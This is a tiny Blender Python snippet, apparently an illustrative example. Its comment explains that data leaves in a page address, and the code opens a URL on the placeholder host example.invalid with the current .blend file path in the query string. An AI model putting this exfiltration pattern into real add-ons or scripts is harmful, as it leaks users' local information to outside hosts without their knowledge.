# why: data leaves in the address of a page
import bpy
bpy.ops.wm.url_open(url="http://example.invalid/?f=" + bpy.data.filepath)
